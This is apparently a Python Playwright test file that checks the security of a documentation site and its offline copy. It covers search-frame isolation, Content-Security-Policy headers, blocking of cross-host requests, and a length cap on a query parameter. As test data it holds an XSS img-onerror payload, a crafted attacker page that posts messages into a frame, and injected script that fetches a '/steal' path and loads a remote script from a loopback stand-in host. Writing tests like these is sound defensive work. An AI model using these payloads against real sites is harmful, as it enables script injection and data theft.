"""The hosted site and the offline copy run only what they shipped (issue 32), in Chromium."""

from __future__ import annotations

import json

from browsing import Visit, browser  # noqa: F401  (browser: a fixture)

HOSTILE_TITLE = '<img src=x onerror="window.__owned=(window.__owned||0)+1">owned'


def test_a_page_that_frames_the_offline_copy_cannot_feed_its_search(browser, offline_copy, tmp_path):  # noqa: F811
    """Opened from file://, search runs in a hidden frame (iframe-worker's shim). A page that frames
    a chapter posts a crafted index and query to that frame, as a worker's messages: the frame's
    worker never sees them, no result carries the crafted title, no script of it runs; the
    chapter's own search still works afterwards."""
    chapter = (offline_copy / "en" / "sliding-window.html").as_uri()
    attacker = tmp_path / "attacker.html"
    setup = {"type": 0, "data": {"config": {"lang": ["en"], "separator": "[\\s\\-]+", "pipeline": [],
                                            "fields": {"title": {"boost": 1000}, "text": {"boost": 1}}},
                                 "docs": [{"location": "x.html", "title": HOSTILE_TITLE, "text": "owned"}],
                                 "options": {"suggest": False}}}
    attacker.write_text(f"""<!doctype html><iframe id=f src="{chapter}" width=1280 height=800></iframe><script>
      window.__owned = 0;
      function attack() {{
        const inner = document.getElementById("f").contentWindow.frames[0];
        if (!inner) return false;
        inner.postMessage({json.dumps(setup)}, "*");
        inner.postMessage({{type: 2, data: "owned"}}, "*");
        return true;
      }}
    </script>""", encoding="utf-8")
    visit = Visit(browser, attacker.as_uri(), viewport={"width": 1400, "height": 900})
    page = visit.page
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    frame = page.frame_locator("#f")
    frame.locator("label.md-search__icon, .md-search__input").first.click()  # the chapter starts its search worker
    page.wait_for_function("() => document.getElementById('f').contentWindow.frames.length > 0", timeout=30000)
    page.wait_for_timeout(1500)
    assert page.evaluate("attack()")
    page.wait_for_timeout(1500)
    chapter_frame = page.frames[1]
    assert chapter_frame.evaluate("window.__owned || 0") == 0 and dialogs == []
    assert "owned" not in chapter_frame.inner_text(".md-search-result")
    # the chapter's own search still answers
    chapter_frame.fill(".md-search__input", "stride")
    chapter_frame.press(".md-search__input", "End")
    chapter_frame.wait_for_selector(".md-search-result__item", timeout=20000)
    assert "stride" in chapter_frame.inner_text(".md-search-result__list").lower()
    assert chapter_frame.evaluate("window.__owned || 0") == 0
    visit.close()


def test_every_page_carries_its_policy_first_in_head(site):
    """Every page of both languages (and the root and 404 pages) starts its <head> with its policy;
    the policy names the SHA-256 of each inline script of that page and no other inline script."""
    import re
    import sys

    from helpers import ROOT

    sys.path.insert(0, str(ROOT / "scripts"))
    import csp

    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 100
    hashes = set()
    for page in pages:
        html = page.read_text(encoding="utf-8")
        head = html[re.search(r"<head\b[^>]*>", html).end():]
        m = re.match(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
        assert m, page
        policy = m.group(1)
        assert "default-src 'self'" in policy and "object-src 'none'" in policy and "'unsafe-inline'" not in \
            policy.split("script-src")[1].split(";")[0], page
        assert policy == csp.policy(html.replace(m.group(0), "")), page
        hashes.update(csp.inline_hashes(html))
        assert re.search(rb"<meta charset=.?utf-8", html.encode()[:1024], re.I), page  # still found by the encoding sniffer
    assert len(hashes) >= 5


def test_the_policy_blocks_a_request_to_another_host(browser, served):  # noqa: F811
    """A script injected into a page (as an attacker's would be) can neither fetch from another
    host nor load an image or a script from it, nor run an inline script: the policy blocks each,
    and the other host (a second server on loopback: another origin) receives no request."""
    import functools
    import http.server
    import threading

    hits = []

    class Other(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    there = f"http://127.0.0.1:{other.server_address[1]}"
    visit = Visit(browser, f"{served}en/sliding-window/")
    page = visit.page
    page.evaluate("""there => {
        fetch(there + '/steal?x=1').catch(() => {});
        const img = new Image(); img.src = there + '/pixel.gif'; document.body.append(img);
        const s = document.createElement('script'); s.src = there + '/x.js'; document.head.append(s);
        const inline = document.createElement('script'); inline.textContent = 'window.__ran = 1'; document.head.append(inline);
    }""", there)
    page.wait_for_timeout(800)
    blocked = [e for e in visit.errors if e.startswith("Content-Security-Policy:")]
    assert any("connect-src" in e for e in blocked) and any("img-src" in e for e in blocked), visit.errors
    assert sum("script-src" in e for e in blocked) == 2, visit.errors  # the other host's script and the inline one
    assert page.evaluate("window.__ran === undefined")
    assert hits == []
    visit.close()
    other.shutdown()


def test_a_huge_highlight_word_is_cut_before_material_reads_it(browser, served):  # noqa: F811
    """?h= with a 60 KB word made Material's highlighter throw ("Invalid regular expression"): the
    page cuts ?h= and ?q= to 200 characters first; a normal ?h= still highlights its word."""
    visit = Visit(browser, f"{served}en/sliding-window/?h={'a' * 60000}")
    visit.page.wait_for_timeout(500)
    assert visit.errors == [] and len(visit.page.url) < 400
    visit.close()
    visit = Visit(browser, f"{served}en/sliding-window/?h=stride")
    visit.page.wait_for_selector("mark", timeout=20000)
    assert visit.errors == []
    visit.close()
